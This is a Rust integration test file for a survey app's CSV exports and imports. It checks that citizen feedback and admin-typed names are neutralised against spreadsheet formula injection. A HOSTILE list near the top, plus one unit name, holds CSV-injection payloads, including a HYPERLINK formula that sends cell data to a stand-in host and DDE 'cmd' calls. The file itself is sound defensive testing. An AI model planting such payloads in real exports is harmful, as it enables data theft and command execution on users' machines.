//! The CSV files skm writes (issue 18, point 6): `laporan.csv` names its questionnaire, so
//! `skm compute` and `skm import` read a unit's export with the right one (and say so when told
//! another); `;` files are read as `,` files; and no cell of any CSV skm writes reaches a
//! spreadsheet as a formula (OWASP), while skm reads its own files back unchanged.

use crate::common;

use common::{backends, hidden, seed_unit_and_user, skm, TestApp, TestDb, PASSWORD};
use diesel::prelude::*;
use serde_json::Value;
use skm::aggregator::{self, Selection};
use skm::db::schema::responses;
use skm::db::units;
use skm::domain::names::{Channel, Role, Slug, UnitKind};
use skm::domain::period::{local_date, Period};
use std::path::Path;

/// Saran a citizen can type that a spreadsheet would run (OWASP's examples), and some that look
/// close: a negative number, a list item, an apostrophe already in front.
const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "-2",
    "- antrean lama",
    "'=sudah diberi tanda kutip",
];

/// A cell a spreadsheet would read as a formula: OWASP's first characters, plain numbers aside.
fn formula_like(cell: &str) -> bool {
    let number = cell.strip_prefix(['-', '+']).is_some_and(|n| !n.is_empty() && n.parse::<f64>().is_ok());
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !number
}

/// Every record of a CSV as written, cells untouched (quotes taken off, nothing else).
fn raw_records(bytes: &[u8], delimiter: u8) -> Vec<Vec<String>> {
    let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .has_headers(false)
        .from_reader(bytes)
        .records()
        .map(|r| r.expect("a CSV record").iter().map(str::to_string).collect())
        .collect()
}

fn assert_no_formula(records: &[Vec<String>], what: &str) {
    for (line, record) in records.iter().enumerate() {
        for cell in record {
            assert!(!formula_like(cell), "{what}, line {}: a spreadsheet runs {cell:?}", line + 1);
        }
    }
}

/// A unit answering `template` (no services), with one response per saran, every element
/// answered `score`, and some lower; returns its id.
fn unit_with_answers(app: &TestApp, slug: &str, template: Option<&str>, saran: &[&str]) -> i32 {
    let mut conn = app.conn();
    let versions = common::registry(&mut conn);
    let unit = common::create_opd(&mut conn, slug, template);
    let (version_id, template) = versions.current_for(&unit).expect("questionnaire");
    let today = local_date(chrono::Utc::now(), app.config.timezone);
    for (i, saran) in saran.iter().enumerate() {
        let answers = template
            .elements
            .iter()
            .enumerate()
            .map(|(e, element)| (element.code.clone(), (template.scale_max - ((i + e) % 3) as u32) as i32))
            .collect();
        let response = skm::db::responses::NewResponse {
            saran: Some(saran.to_string()),
            answers,
            ..common::paper_response(unit.id, version_id, today, 1)
        };
        skm::db::responses::insert(&mut conn, &response).expect("response");
    }
    unit.id
}

fn this_month(app: &TestApp) -> String {
    Period::month_of(local_date(chrono::Utc::now(), app.config.timezone)).to_string()
}

/// The admin's session cookie.
fn admin(app: &TestApp) -> String {
    seed_unit_and_user(app, "kabupaten", "admin@kutaitimurkab.go.id", Role::Admin);
    app.login("admin@kutaitimurkab.go.id", PASSWORD).expect("signed in")
}

fn laporan_csv(app: &TestApp, cookie: &str, slug: &str) -> Vec<u8> {
    let reply = app.get_as(cookie, &format!("/dasbor/unit/{slug}/laporan.csv?period={}", this_month(app)));
    assert_eq!(reply.status, 200, "{}", reply.body);
    reply.bytes
}

/// The index the dashboard shows for the unit this month.
fn expected_nik(app: &TestApp, slug: &str) -> Option<f64> {
    let mut conn = app.conn();
    let versions = common::registry(&mut conn);
    let unit = units::by_slug(&mut conn, slug).expect("unit");
    let selection =
        Selection { period: this_month(app).parse().expect("period"), with_subunits: false, service_id: None };
    let index = aggregator::unit_index(&mut conn, &versions, &unit, &selection).expect("index");
    index.result.index.map(|v| v.to_f64())
}

/// `skm` with `args` in `dir` against `database`: success, stdout, stderr.
fn run(database: &TestDb, dir: &Path, args: &[&str]) -> (bool, String, String) {
    let out = skm(dir).env("SKM_DATABASE_URL", &database.url).args(args).output().expect("run skm");
    let text = |bytes: &[u8]| String::from_utf8_lossy(bytes).into_owned();
    (out.status.success(), text(&out.stdout), text(&out.stderr))
}

fn write(dir: &Path, name: &str, bytes: &[u8]) -> String {
    let path = dir.join(name);
    std::fs::write(&path, bytes).expect("write");
    path.display().to_string()
}

/// The export as Excel on an Indonesian Windows saves it again: `;` between cells.
fn with_semicolons(bytes: &[u8]) -> Vec<u8> {
    let mut writer =
        csv::WriterBuilder::new().delimiter(b';').terminator(csv::Terminator::CRLF).from_writer(Vec::new());
    for record in raw_records(bytes, b',') {
        writer.write_record(&record).expect("record");
    }
    writer.into_inner().expect("bytes")
}

fn stored_saran(app: &TestApp, unit_id: i32) -> Vec<String> {
    let mut saran: Vec<String> = responses::table
        .filter(responses::unit_id.eq(unit_id))
        .select(responses::saran)
        .load::<Option<String>>(&mut app.conn())
        .expect("saran")
        .into_iter()
        .flatten()
        .collect();
    saran.sort();
    saran
}

#[test]
fn laporan_csv_neutralises_every_saran_a_spreadsheet_would_run() {
    for database in backends() {
        let app = TestApp::spawn(&database);
        let cookie = admin(&app);
        unit_with_answers(&app, "zi-samsat", Some("spkp-zi"), &HOSTILE);
        let bytes = laporan_csv(&app, &cookie, "zi-samsat");
        let records = raw_records(&bytes, b',');
        assert_no_formula(&records, &format!("{}: laporan.csv", database.name));
        let header = &records[0];
        let column =
            |name: &str| header.iter().position(|h| h == name).unwrap_or_else(|| panic!("no {name}: {header:?}"));
        let mut written: Vec<&str> = records[1..].iter().map(|r| r[column("saran")].as_str()).collect();
        written.sort();
        let mut expected: Vec<String> = HOSTILE
            .iter()
            .map(|s| {
                if s.trim_start_matches('\'').starts_with(['=', '+', '-', '@', '\t']) && *s != "-2" {
                    format!("'{s}")
                } else {
                    s.to_string()
                }
            })
            .collect();
        expected.sort();
        assert_eq!(written, expected, "{}: a `'` in front of each formula, nothing else changed", database.name);
        let text = String::from_utf8_lossy(&bytes);
        assert!(text.contains(r#""'=HYPERLINK(""http://evil.example/?d=""&A1,""klik"")""#), "quoted: {text}");
        assert!(text.contains(r#",-2,spkp-zi,1"#), "a negative number stays a number: {text}");
        assert!(records[1..]
            .iter()
            .all(|r| r[column("template")] == "spkp-zi" && r[column("template_version")] == "1"));
    }
}

#[test]
fn a_units_export_reads_back_with_its_own_questionnaire_as_comma_or_semicolon_file() {
    for database in backends() {
        let app = TestApp::spawn(&database);
        let cookie = admin(&app);
        let dir = tempfile::tempdir().expect("tmp");
        unit_with_answers(&app, "zi-samsat", Some("spkp-zi"), &HOSTILE);
        unit_with_answers(&app, "puskesmas", None, &HOSTILE[..5]);
        for (slug, template) in [("zi-samsat", "spkp-zi"), ("puskesmas", "permenpanrb-14-2017")] {
            let exported = laporan_csv(&app, &cookie, slug);
            for (name, bytes) in [("koma", exported.clone()), ("titik-koma", with_semicolons(&exported))] {
                let path = write(dir.path(), &format!("{slug}-{name}.csv"), &bytes);
                let (ok, out, err) = run(&database, dir.path(), &["compute", "--format", "json", "--csv", &path]);
                assert!(ok, "{}: {slug} ({name}), no --template: {err}", database.name);
                let json: Value = serde_json::from_str(&out).expect("json");
                assert_eq!(json["template"], template, "{slug} ({name})");
                assert_eq!(json["nik"].as_f64(), expected_nik(&app, slug), "{}: {slug} ({name})", database.name);
            }
        }

        // imported into another unit of the questionnaire, every saran arrives as the citizen typed it
        let exported = laporan_csv(&app, &cookie, "zi-samsat");
        for (i, bytes) in [exported.clone(), with_semicolons(&exported)].iter().enumerate() {
            let target = unit_with_answers(&app, &format!("zi-kantor-{i}"), Some("spkp-zi"), &[]);
            let path = write(dir.path(), &format!("impor-{i}.csv"), bytes);
            let (ok, out, err) = run(&database, dir.path(), &["import", &path, "--unit", &format!("zi-kantor-{i}")]);
            assert!(ok, "{}: import {i}: {err}", database.name);
            assert!(out.contains(&HOSTILE.len().to_string()), "{out}");
            let mut expected: Vec<String> = HOSTILE.iter().map(|s| s.trim().to_string()).collect();
            expected.sort();
            assert_eq!(stored_saran(&app, target), expected, "{}: import {i}", database.name);
        }
    }
}

#[test]
fn a_template_flag_or_a_unit_that_disagrees_with_the_file_is_a_clear_error() {
    for database in backends() {
        let app = TestApp::spawn(&database);
        let cookie = admin(&app);
        let dir = tempfile::tempdir().expect("tmp");
        unit_with_answers(&app, "zi-samsat", Some("spkp-zi"), &["Cepat"]);
        let path = write(dir.path(), "zi.csv", &laporan_csv(&app, &cookie, "zi-samsat"));

        let (ok, _, err) =
            run(&database, dir.path(), &["compute", "--csv", &path, "--template", "permenpanrb-14-2017"]);
        assert!(!ok);
        assert!(
            err.contains("--template permenpanrb-14-2017:")
                && err.contains("holds answers to questionnaire spkp-zi")
                && err.contains("leave out --template"),
            "{err}"
        );
        let (ok, out, err) = run(&database, dir.path(), &["compute", "--csv", &path, "--template", "spkp-zi"]);
        assert!(ok && out.contains("Responden  1"), "an agreeing flag is fine: {out}{err}");

        // a unit of the default questionnaire: from the command line and from the upload page
        seed_unit_and_user(&app, "disdukcapil", "op@kutaitimurkab.go.id", Role::Operator);
        let (ok, _, err) = run(&database, dir.path(), &["import", &path, "--unit", "disdukcapil"]);
        assert!(!ok);
        assert!(
            err.contains(
                "baris 2, kolom template: berkas ini berisi jawaban kuesioner 'spkp-zi', bukan permenpanrb-14-2017"
            ),
            "{}: {err}",
            database.name
        );
        let operator = app.login("op@kutaitimurkab.go.id", PASSWORD).expect("signed in");
        let csrf = hidden(&app.get_as(&operator, "/operator/disdukcapil/impor").body, "csrf");
        let bytes = std::fs::read(&path).expect("file");
        let reply = app.post_file_as(&operator, "/operator/disdukcapil/impor", &[("csrf", &csrf)], "zi.csv", &bytes);
        assert_eq!(reply.status, 422);
        assert!(
            reply.body.contains("Berkas ini berisi jawaban kuesioner &#39;spkp-zi&#39;, bukan permenpanrb-14-2017"),
            "{}",
            reply.body
        );
        let stored: i64 = responses::table
            .filter(responses::channel.eq(Channel::Import.as_str()))
            .count()
            .get_result(&mut app.conn())
            .expect("count");
        assert_eq!(stored, 0);
    }
}

#[test]
fn the_population_and_sample_files_neutralise_what_admins_type() {
    let database = TestDb::sqlite();
    let app = TestApp::spawn(&database);
    let cookie = admin(&app);
    {
        let mut conn = app.conn();
        let unit = units::create(
            &mut conn,
            &units::NewUnit {
                slug: &Slug::parse("dinas-x").expect("slug"),
                name: "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")",
                kind: UnitKind::Opd,
                parent_id: None,
                contact_emails: &[],
                template_id: None,
            },
        )
        .expect("unit");
        units::add_service(&mut conn, unit.id, &Slug::parse("ktp-el").expect("slug"), "@SUM(1)").expect("service");
    }
    let population = app.get_as(&cookie, "/admin/populasi/contoh.csv");
    assert_eq!(population.status, 200);
    let records = raw_records(&population.bytes, b';');
    assert_no_formula(&records, "populasi contoh.csv");
    assert!(
        records.iter().any(|r| r[1] == "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")"),
        "the name is kept whole, after a `'`: {records:?}"
    );
    let sample = app.get_as(&cookie, "/operator/dinas-x/impor/contoh.csv");
    assert_eq!(sample.status, 200, "{}", sample.body);
    assert_no_formula(&raw_records(&sample.bytes, b';'), "impor contoh.csv");
}
